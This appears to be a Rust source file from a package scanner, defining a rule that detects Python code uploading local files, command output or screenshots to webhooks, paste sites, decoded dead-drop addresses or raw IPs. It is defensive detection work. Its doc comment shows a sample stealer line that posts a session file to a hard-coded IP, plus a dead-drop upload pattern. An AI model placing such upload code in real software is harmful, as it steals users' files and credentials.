//! PY113 `data-exfiltration`: local files, command output or screenshots
//! sent out by code nobody asked to run, or to a chat/paste/catcher service.
//!
//! **What it detects.** A network send (HTTP verbs, sockets, SMTP, FTP,
//! chat-webhook clients) whose arguments carry the contents of a local
//! file (`open(...)`, a `files=` upload), the output of a command, or
//! screenshot pixels, when either
//! - the file runs unasked (`setup.py`, an install hook, a `.pth`, the
//!   package's top-level `__init__.py`), or
//! - the destination is an exfiltration service: a Discord/Slack webhook,
//!   the Telegram bot API, a paste or file-drop site, a request catcher or
//!   tunnel (the same list as `INTEL502`).
//!
//! - the destination address is itself fetched or decoded at run time (a
//!   dead drop: `requests.post(requests.get(b64decode(X)).text, files=…)`),
//!   high;
//! - the destination is a hard-coded public IP address (`http://A.B.C.D/…`):
//!   local data sent there is high, any other request body medium.
//!
//! **Why it matters.** Stealers collect files (Telegram `.session` files,
//! browser databases, wallet files, `ipconfig` output, screenshots) and
//! upload them; at install time nothing legitimate uploads local data, and
//! legitimate libraries do not post files to someone's chat channel
//! (CWE-200, MITRE T1041/T1567).
//!
//! **Example.**
//! ```python
//! with open(session_file, "rb") as f:
//!     requests.post("http://203.0.113.7:1337/check", files={"check": f})
//! ```
//!
//! **False positives.** Upload clients (cloud SDKs, paste tools) send
//! files from library code to their own service: not flagged unless the
//! destination is a chat webhook, paste site or catcher, and then medium
//! when the data is only a file the caller chose.

use sluice_model::{Confidence, Finding, Severity};

use super::at_call;
use super::facts::{Call, Caps, Facts, Labels, is_net_call};

/// Rule name.
pub const NAME: &str = "data-exfiltration";

const LOCAL: Labels = Labels(Labels::FILEDATA.0 | Labels::PROCOUT.0 | Labels::IMAGE.0);

fn is_sender(c: &Call) -> bool {
    if is_net_call(c) || (c.target.starts_with("local:") && c.caps.has(Caps::NET)) {
        return true;
    }
    let t = c.target.as_str();
    // discord_webhook / dhooks / telebot clients
    (t.starts_with("discord_webhook.")
        || t.starts_with("dhooks.")
        || t.starts_with("telebot.")
        || t.starts_with("telegram."))
        || matches!(
            c.method.as_str(),
            "send_document" | "send_photo" | "add_file"
        )
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    let role = f.file.role;
    let file_service = f
        .strings
        .iter()
        .find_map(|s| crate::ioc::exfil_service(&s.value));
    let dead_drop = f
        .calls
        .iter()
        .any(|c| is_net_call(c) && c.first_labels.has(Labels::DECODED));
    let mut out = Vec::new();
    for c in f.calls.iter().filter(|c| is_sender(c)) {
        let mut data = c.arg_labels;
        for (_, l) in &c.kw_labels {
            data |= *l;
        }
        let uploads_file = c.kwarg("files").is_some();
        let raw_ip = c.strings.iter().any(|s| crate::ioc::is_raw_ip_url(s));
        // The address is fetched or decoded at run time, in a file that
        // fetches from a decoded address: the dead drop's two steps.
        let hidden_dest = dead_drop
            && c.first_labels
                .has(Labels(Labels::FETCHED.0 | Labels::DECODED.0))
            && (uploads_file || matches!(c.method.as_str(), "post" | "put" | "patch"));
        // A body sent to a hard-coded IP address: `json=`, `data=`, or a
        // request object built with data.
        let payload = ["json", "data", "files"]
            .iter()
            .any(|k| c.kwarg(k).is_some_and(|v| v != "None"))
            || (c.npos >= 2
                && (matches!(c.method.as_str(), "post" | "put" | "urlopen" | "Request")
                    || c.target.starts_with("local:")));
        // (Code that runs unasked and talks to a raw IP is INTEL503's; only
        // library code needs the body to be noticed here.)
        if !(data.has(LOCAL) || uploads_file || (raw_ip && payload && !role.runs_unasked())) {
            continue;
        }
        let service = c
            .strings
            .iter()
            .find_map(|s| crate::ioc::exfil_service(s))
            .or(file_service);
        let (sev, conf) = match (role.runs_unasked(), service) {
            (true, Some(_)) => (Severity::Critical, Confidence::High),
            (true, None) => (Severity::High, Confidence::High),
            (false, Some(_)) if data.has(Labels(Labels::PROCOUT.0 | Labels::IMAGE.0)) => {
                (Severity::High, Confidence::High)
            }
            (false, Some(_)) => (Severity::Medium, Confidence::Medium),
            // Local files posted to an address that was itself fetched or
            // decoded at run time: a dead drop, so the real destination is
            // never in the package.
            (false, None) if hidden_dest && (data.has(LOCAL) || uploads_file) => {
                (Severity::High, Confidence::Medium)
            }
            // Local files or command output posted to a bare IP address.
            (false, None) if raw_ip && (data.has(LOCAL) || uploads_file) => {
                (Severity::High, Confidence::Medium)
            }
            // Any other body posted to a bare IP address from library code.
            (false, None) if raw_ip && payload => (Severity::Medium, Confidence::Medium),
            (false, None) => continue,
        };
        let mut what = (data & LOCAL).names();
        if what.is_empty() {
            what.push(if uploads_file {
                "an uploaded file"
            } else {
                "data"
            });
        }
        let mut fd = at_call(
            f,
            "PY113",
            NAME,
            sev,
            conf,
            format!("sends {} over the network", what.join(", ")),
            c,
        );
        if let Some(s) = service {
            fd = fd.evidence(format!("destination: a {s}"));
        } else if raw_ip {
            fd = fd.evidence("destination: a hard-coded IP address");
        } else if hidden_dest {
            fd = fd.evidence("destination: an address fetched or decoded at run time");
        }
        if role.runs_unasked() {
            fd = fd.evidence("in code that runs unasked (install or import time)");
        }
        out.push(fd);
        if out.len() >= 2 {
            break;
        }
    }
    out
}
